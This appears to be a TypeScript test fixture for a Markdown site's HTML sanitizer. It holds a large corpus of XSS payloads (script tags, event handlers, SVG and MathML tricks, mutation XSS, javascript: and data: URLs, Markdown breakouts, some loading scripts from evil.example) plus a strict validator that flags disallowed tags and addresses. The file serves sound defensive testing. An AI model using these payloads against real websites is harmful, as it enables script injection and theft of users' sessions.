// What people have tried on sites like this one. Classics of the OWASP cheat sheet, mutation XSS, and what is
// peculiar to Markdown. `%ALERT%`-like tricks all call alert(1), so a browser can listen for it.

const rawHtml = [
  '<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<script/src=data:,alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script\n>', '<script>/*\n\n*/alert(1)</script>',
  '</script><script>alert(1)</script>', '<script x>alert(1)</script 1=2', '<<script>alert(1);//<</script>',
  '<script type=module>import("https://evil.example")</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)//', '<img src="x" onerror="alert(1)" />',
  '<IMG SRC=javascript:alert(1)>', '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>', '<img/src="x"/onerror=alert(1)>',
  '<img src=x:x onerror\u0009=alert(1)>', '<img\u000csrc=x\u000conerror=alert(1)>', '<image src=x onerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">', '<img srcset="x,y" onerror=alert(1)>', '<img src=x style="x:expression(alert(1))">',
  '<body onload=alert(1)>', '<body background=javascript:alert(1)>', '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src="data:text/html,<script>alert(1)</script>">',
  '<frameset onload=alert(1)>', '<object data=javascript:alert(1)>', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src=javascript:alert(1)>', '<applet code=x>', '<base href="https://evil.example/">', '<base target="x" href=javascript:/**/>',
  '<link rel=stylesheet href=https://evil.example/x.css>', '<link rel=import href=//evil.example>', '<style>@import "https://evil.example/x.css"</style>',
  '<style>*{background:url(javascript:alert(1))}</style>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<form action=javascript:alert(1)><button>x</button></form>',
  '<form><button formaction=javascript:alert(1)>x', '<input autofocus onfocus=alert(1)>', '<input type=image src=x onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
  '<video src=x onerror=alert(1)>', '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>', '<isindex action=javascript:alert(1) type=image>', '<div onpointerover=alert(1)>x</div>',
  '<div style="position:fixed;inset:0" onclick=alert(1)>', '<a href=javascript:alert(1)>x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
  '<a onmouseover="alert(1)">x</a>', '<a href=x target=_blank rel=opener>x</a>', '<table background=javascript:alert(1)>',
  '<xss contenteditable onblur=alert(1) tabindex=1 autofocus>', '<custom-element onfocus=alert(1) autofocus tabindex=1>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<!DOCTYPE x [<!ENTITY y "z">]>', '<%<script>alert(1)</script>%>',
]

const svgAndMath = [
  '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><script>alert(1)</script></svg>', '<svg><script href=data:,alert(1) />',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>', '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math href=javascript:alert(1)>x</math>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
]

const mutation = [
  '<noscript><style></noscript><img src=x onerror=alert(1)>', '<template><script>alert(1)</script></template>', '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>', '<p id="&lt;img src=x onerror=alert(1)&gt;">x</p>', '<img alt="`><script>alert(1)</script>`">',
  '`<img src=x onerror=alert(1)>', '<a href="https://e.cn"><b title="</a><img src=x onerror=alert(1)>">', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;', '\\<script>alert(1)\\</script>', '\u{e003c}script\u{e003e}alert(1)', '＜script＞alert(1)＜/script＞', '‹script›alert(1)‹/script›',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '<\u0000img src=x onerror=alert(1)>', '\ufeff<script>alert(1)</script>', '<ſcript>alert(1)</ſcript>',
]

const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript%3Aalert(1)', 'j%61vascript:alert(1)',
  'javascript://%0aalert(1)', 'javascript:/*-->*/alert(1)', 'javascript://e.cn/%0d%0aalert(1)', 'vbscript:msgbox(1)', 'VBSCRIPT:x', 'livescript:x', 'mocha:x',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'DATA:image/svg+xml,<svg onload=alert(1)>', 'data:image/png;base64,iVBORw0KGgo=',
  'blob:https://e.cn/1', 'file:///etc/passwd', 'view-source:https://e.cn', 'filesystem:https://e.cn/x', 'intent://x#Intent;scheme=weixin;end', 'weixin://dl/business', 'feed:javascript:alert(1)', 'jar:https://e.cn!/x',
  '//evil.example', '/\\evil.example', '\\\\evil.example', 'https:evil.example', 'https:///evil.example', 'https://user:pass@evil.example', 'http:\\\\evil.example', '?x#javascript:alert(1)',
]

const breakouts = [
  '[x](https://e.cn"onmouseover="alert(1))', '[x](https://e.cn "t" onmouseover="alert(1)")', '[x](https://e.cn \'"><img src=x onerror=alert(1)>\')', '[x](<https://e.cn"><script>alert(1)</script>>)',
  '![x"onerror="alert(1)](https://e.cn/x.png)', '![x](https://e.cn/x.png"onerror="alert(1))', '![<img src=x onerror=alert(1)>](x)', '[<img src=x onerror=alert(1)>](https://e.cn)',
  'https://e.cn/"onmouseover="alert(1)', 'https://e.cn/<script>alert(1)</script>', "https://e.cn/'><img src=x onerror=alert(1)>", '<https://e.cn/"onclick=alert(1)>', '<https://e.cn/?x=<script>alert(1)</script>>',
  '```"><script>alert(1)</script>\nx\n```', '```js onmouseover=alert(1)\nx\n```', '~~~ " onload="alert(1)\n</code></pre><script>alert(1)</script>\n~~~', '    </code></pre><img src=x onerror=alert(1)>', '`</code><script>alert(1)</script>`',
  '# <img src=x onerror=alert(1)>', '> <script>alert(1)</script>', '- <svg onload=alert(1)>', '1. [x](javascript:alert(1))', '|a|\n|-|\n|<img src=x onerror=alert(1)>|', '**<b onclick=alert(1)>x</b>**',
  '[x]\n\n[x]: javascript:alert(1)', '[x]: javascript:alert(1) "t"\n[x]', '[x]: <data:text/html,alert(1)>\n![x]', '[a]: https://e.cn "\\"><script>alert(1)</script>"\n[a]', '[x][__proto__]', '[__proto__]: javascript:alert(1)\n[__proto__]',
  '@<script>alert(1)</script>', '@lin"onclick="alert(1)', '#"><svg onload=alert(1)>', ':"><img src=x onerror=alert(1)>:', '</p></li></ol></main><script>alert(1)</script>', '"><script>alert(1)</script>', "'-alert(1)-'", '`-alert(1)-`', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>',
  '\u202ejavascript:alert(1)\u202c', '[\u202ehttps://gs.cn\u202c](https://evil.example)', '\u2066<script>alert(1)</script>\u2069', ']]><script>alert(1)</script>', '--><script>alert(1)</script>', '\u2028<script>alert(1)</script>',
]

/** Every payload once: raw, and every address as link, picture, autolink, reference and bare. */
export const xssCorpus: readonly string[] = [
  ...rawHtml, ...svgAndMath, ...mutation, ...breakouts,
  ...addresses.flatMap(address => [
    `[x](${address})`, `[x](<${address}>)`, `![x](${address})`, `<${address}>`, `[x]: ${address}\n\n[x]`, address,
  ]),
]

const allowed: Record<string, readonly string[]> = {
  a: ['href', 'rel'], ol: ['start'],
  ...Object.fromEntries(
    ['p', 'br', 'em', 'strong', 's', 'code', 'pre', 'ul', 'li', 'blockquote', 'hr', 'h4', 'h5', 'h6'].map(tag => [tag, []]),
  ),
}

/**
 * Reads HTML as strictly as can be and answers what is in it beyond the few tags, attributes and addresses that
 * words may have: an empty list when it is harmless. A "<" that is not the start of an allowed tag is an offence, so
 * no parser, however lenient, finds a tag that was not seen here.
 */
export function offencesIn(html: string): string[] {
  const open: string[] = []
  const offences: string[] = []
  const rest = html.replace(/<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/g, (_, slash: string, tag: string, attributes: string) => {
    if (!Object.hasOwn(allowed, tag)) offences.push(`tag ${tag}`)
    else if (slash) offences.push(...(open.pop() === tag && attributes === '' ? [] : [`closing ${tag}`]))
    else if (tag !== 'br' && tag !== 'hr') open.push(tag)
    if (tag === 'a' && !slash && open.filter(it => it === 'a').length > 1) offences.push('a link in a link')
    for (const [, name = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (!allowed[tag]?.includes(name)) offences.push(`attribute ${name}`)
      if (name === 'href' && !isHarmlessAddress(value)) offences.push(`address ${value}`)
      if (name === 'rel' && value !== 'nofollow ugc noopener') offences.push(`rel ${value}`)
      if (name === 'start' && !/^\d+$/.test(value)) offences.push(`start ${value}`)
    }
    return ''
  })
  if (/[<>]/.test(rest)) offences.push('a bare < or >')
  if (open.length > 0) offences.push(`never closed: ${open.join(' ')}`)
  return offences
}

// As a browser would read it: entities resolved, then resolved against the page.
function isHarmlessAddress(attribute: string): boolean {
  const address = attribute.replace(/&amp;/g, '&').replace(/&quot;/g, '"')
  if (/&#|&[a-z]+;/i.test(attribute.replace(/&(amp|quot|lt|gt);/g, ''))) return false
  const here = 'https://guoshen.example/cases/1'
  if (!URL.canParse(address, here)) return false
  const url = new URL(address, here)
  const own = /^\//.test(address) && url.origin === 'https://guoshen.example'
  return own || (/^https?:\/\//i.test(address) && /^https?:$/.test(url.protocol) && url.username === '')
}
